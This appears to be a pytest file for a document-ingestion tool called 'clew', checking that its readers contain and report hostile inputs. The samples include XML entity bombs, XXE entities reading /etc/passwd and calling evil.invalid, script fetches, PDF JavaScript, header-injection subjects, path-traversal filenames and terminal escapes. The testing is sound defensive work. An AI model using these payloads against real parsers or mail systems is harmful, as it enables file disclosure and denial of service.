"""Evidence that means harm: contained, reported in one line, never executed, fetched or followed."""

import io
import os
import socket
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest
from openpyxl import Workbook

from clew.ingest import Reading
from conftest import clew
from ingest.samples import Read, pdf

LAUGHS = (
    '<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + "".join(f'<!ENTITY {chr(99 + n)} "{f"&{chr(98 + n)};" * 10}">' for n in range(8))
    + "]>"
)
OUTSIDE = '<!DOCTYPE d [<!ENTITY j SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://evil.invalid/x.dtd">%p;]>'
QUADRATIC = f'<!DOCTYPE d [<!ENTITY j "{"quay " * 10_000}">]>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def word(head: str) -> bytes:
    body = f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>'
    return packed(
        {
            "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',  # noqa: E501
            "_rels/.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',  # noqa: E501
            "word/document.xml": f'<?xml version="1.0"?>{head}{body}',
        }
    )


def packed(parts: dict[str, str]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return written.getvalue()


def text(head: str, body: str = "&j; Anna met Bo.") -> str:
    """Return an OpenDocument text that is not packed."""
    spaces = " ".join(f"xmlns:{name}='urn:oasis:names:tc:opendocument:xmlns:{name}:1.0'" for name in ("office", "text"))
    inner = f"<office:body><office:text><text:p>{body}</text:p></office:text></office:body>"
    return f"<?xml version='1.0'?>{head}<office:document {spaces}>{inner}</office:document>"


def open_text(head: str) -> bytes:
    content = text(head).replace("office:document", "office:document-content")
    return packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def workbook(head: str) -> bytes:
    """Return a workbook of one cell whose sheet and strings begin with `head`."""
    written = io.BytesIO()
    book = Workbook()
    book.active.append(["Anna met Bo."])  # type: ignore[union-attr]
    book.save(written)
    with zipfile.ZipFile(written) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    for name in parts:
        if name.startswith(("xl/worksheets/", "xl/sharedStrings")):
            body = parts[name].removeprefix("<?xml version='1.0'?>").replace("Anna", "&j;Anna")
            parts[name] = f"<?xml version='1.0'?>{head}{body}"
    return packed(parts)


def mail(html: str) -> bytes:
    message = EmailMessage()
    message["From"], message["Subject"], message["Message-ID"] = "Anna Vale <anna@harbour.example>", "quay", "<1@harbour.example>"
    message.set_content(html, subtype="html")
    return bytes(message)


def nested(depth: int) -> bytes:
    data = b"From: a@b.example\nMessage-ID: <0@b>\nSubject: in\n\nAnna met Bo.\n"
    for n in range(depth):
        head = f"From: a@b.example\nMessage-ID: <{n + 1}@b>\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n".encode()
        data = head + data
    return data


HOSTILE: dict[str, bytes] = {
    "laughs.docx": word(LAUGHS),
    "outside.docx": word(OUTSIDE),
    "laughs.html": (LAUGHS + "<html><body><p>&j; Anna met Bo.</p></body></html>").encode(),
    "outside.html": (OUTSIDE + "<html><body><p>&j; Anna met Bo.</p></body></html>").encode(),
    "quadratic.docx": word(QUADRATIC).replace(b"&j;", b"&j;" * 2_000),
    "quadratic.html": (QUADRATIC + "<html><body><p>" + "&j;" * 20_000 + "</p></body></html>").encode(),
    "quadratic.fodt": text(QUADRATIC, "&j;" * 20_000).encode(),
    "laughs.fodt": text(LAUGHS).encode(),
    "outside.fodt": text(OUTSIDE).encode(),
    "laughs.odt": open_text(LAUGHS),
    "outside.odt": open_text(OUTSIDE),
    "laughs.xlsx": workbook(LAUGHS),
    "outside.xlsx": workbook(OUTSIDE),
    "laughs.svg": (f"<?xml version='1.0'?>{LAUGHS}<svg xmlns='http://www.w3.org/2000/svg'><text>&j;</text></svg>").encode(),
    "outside.svg": (f"{OUTSIDE}<svg xmlns='http://www.w3.org/2000/svg'><image href='http://evil.invalid/'/></svg>").encode(),
    "deep.fodt": text("", "<text:span>" * 50_000).encode(),
    "links.mtree": b"#mtree\na.txt type=file contents=/etc/passwd\n",
    "deep.html": b"<html><body>" + b"<div>" * 100_000 + b"Anna met Bo.",
    "script.html": b"<html><body><script>fetch('http://evil.invalid')</script>"
    b"<iframe src='http://evil.invalid'></iframe><p>Anna met Bo.</p>",
    "tracker.eml": mail(
        '<p>Anna met Bo.</p><img src="http://evil.invalid/t.gif?id=1"><link rel="stylesheet" href="//evil.invalid/s.css">'
    ),
    "form.eml": mail('<p onmouseover="alert(1)">Anna met Bo.</p><form action="javascript:alert(1)"><input value="x"></form>'),
    "nested.eml": nested(500),
    "many.eml": b"From: a@b\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 20_000,
    "heads.eml": b"Message-ID: <1@b>\n" + b"Received: x\n" * 50_000 + b"\nAnna met Bo.\n",
    "fold.eml": b"Message-ID: <1@b>\nSubject: x" + b"\n y" * 50_000 + b"\n\nAnna met Bo.\n",
    "quotes.txt": b"> " * 100_000 + b"Anna\n",
    "from.txt": b"From: a\n" * 50_000,
    "lines.txt": b"On " * 100_000,
    "line.txt": b"A" * 2_000_000,
    "blanks.txt": b" " * 2_000_000 + b"Anna",
    "rich.rtf": b"{\\rtf1 " + b"{" * 200_000 + b"Anna met Bo.",
    "bin.rtf": b"{\\rtf1 \\bin999999999999 Anna",
    "page.pdf": pdf([["Anna met Bo."]]).replace(
        b"/Type /Catalog", b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> /Type /Catalog"
    ),
    "table.csv": b"a,b\n" + b'"' + b"x,\n" * 200_000,
    "cells.csv": b",".join([b"x"] * 200_000) + b"\n" + b",".join([b"1"] * 200_000) + b"\n",
    "deep.json": b"[" * 200_000,
    "slack.json": b'[{"type":"message","ts":"1938800000.000100","text":' + b"[" * 5_000 + b"]" * 5_000 + b"}]",
    "event.ics": b"BEGIN:VCALENDAR\r\n" + b"BEGIN:VEVENT\r\n" * 10_000,
    "card.vcf": b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:" + b"A;" * 300_000 + b"\r\nEND:VCARD\r\n",
}


@pytest.fixture(autouse=True)
def closed(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing connects, and nothing is started but Tesseract and readpst, which are not needed here."""

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a reader went out of its process")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    monkeypatch.setattr(subprocess, "Popen", refuse)
    monkeypatch.setattr(os, "system", refuse)


@pytest.mark.parametrize("name", HOSTILE)
def test_it_is_contained_and_told(read: Read, name: str) -> None:
    reading = read(HOSTILE[name], name)
    assert [r.part for r in reading.receipts].count("") == 1
    assert all(r.reason or r.outcome == "read" for r in reading.receipts)
    said = "\n".join(d.text for d in reading.documents)
    assert "root:" not in said
    assert "haha" * 5 not in said
    assert "alert(1)" not in said
    assert len(said) < 3_000_000


def test_what_a_mail_would_fetch_is_told(read: Read) -> None:
    assert "not fetched" in read(HOSTILE["tracker.eml"], "a.eml").receipts[0].reason


def test_words_beside_the_harm_are_read(read: Read) -> None:
    for name in ("script.html", "tracker.eml", "form.eml", "heads.eml", "fold.eml", "page.pdf"):
        (document,) = read(HOSTILE[name], name).documents
        assert "Anna met Bo." in document.text, name


@pytest.mark.parametrize(
    "field",
    [
        "Subject: =?utf-8?q?quay=0AFrom=3A_evil=40evil.example?=",
        "Subject: =?utf-8?b?cXVheQ0KQmNjOiBldmlsQGV2aWwuZXhhbXBsZQ==?=",
        "Subject: quay\r\n\x1b[2Jcleared",
    ],
)
def test_a_field_cannot_make_another(read: Read, field: str) -> None:
    data = f"From: Anna Vale <anna@harbour.example>\nMessage-ID: <1@h.example>\n{field}\n\nBody.\n"
    (document,) = read(data, "a.eml").documents
    head = document.text.split("\n\n")[0]
    assert [line.split(":")[0] for line in head.split("\n")] == ["From", "Subject"]
    assert [h.name for h in document.headers] == ["From", "Message-ID", "Subject"]


def test_the_name_of_an_attachment_is_one_line_without_a_folder(read: Read) -> None:
    message = EmailMessage()
    message["From"], message["Message-ID"] = "anna@harbour.example", "<1@h.example>"
    message.set_content("Body.")
    message.add_attachment(b"Anna met Bo.", "text", "plain", filename="x.txt")
    data = bytes(message).replace(b'filename="x.txt"', b"filename*=utf-8''..%2F..%2Fetc%2Fx%0A%1B%5B2J%E2%80%AE.txt")
    _, attached = read(data, "a.eml").documents
    assert attached.title
    assert "/" not in attached.title
    assert attached.title.isprintable()


@pytest.fixture
def folder(tmp_path: Path) -> Iterator[Path]:
    """A folder with everything in it that is no file."""
    place = tmp_path / "evidence"
    place.mkdir()
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(place / "s"))
    (place / "zero").symlink_to("/dev/zero")
    (place / "loop").symlink_to(place)
    os.mkfifo(place / "pipe")
    with (place / "endless").open("wb") as file:
        file.truncate(1 << 40)
    (place / "name\x1b[2J\nFrom: x\u202e.txt").write_text("Anna met Bo.")
    yield place
    server.close()


def test_a_folder_of_traps(folder: Path, read_all: Callable[[Path], list[Reading]]) -> None:
    receipts = [r for reading in read_all(folder) for r in reading.receipts]
    reasons = {r.path: r.reason for r in receipts}
    assert len(receipts) == 6
    assert reasons["s"] == "a socket, not a file"
    assert reasons["zero"] == reasons["loop"] == "a symbolic link; links are not followed"
    assert reasons["pipe"] == "a pipe, not a file"
    assert "larger than" in reasons["endless"] or "blanks" in reasons["endless"]
    assert all(path.isprintable() for path in reasons)


def test_what_is_printed_of_hostile_names_and_words_steers_nothing(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.undo()
    (folder / "endless").unlink()
    (folder / "b.html").write_text("<title>Quay\x1b]0;x\x07</title><p>Ines Okoro\x9b2J met Tomas\x1b[2J Orrin in May.</p>")
    (folder / "c.eml").write_text("From: Ines\x1b[2J Okoro <i@x.example>\nMessage-ID: <1@x>\nSubject: q\x1b[1m\n\nYes.\n")
    case = str(tmp_path / "x.clew")
    assert clew("add", str(folder), "--case", case, "--engine", "serial").returncode == 0
    for command in (["report", "--containers"], ["search", "Okoro"], ["people"], ["timeline"], ["threads"], ["findings"]):
        told = clew(*command, "--case", case)
        assert told.returncode == 0
        assert [line for line in told.stdout.split("\n") if not line.isprintable()] == [], command
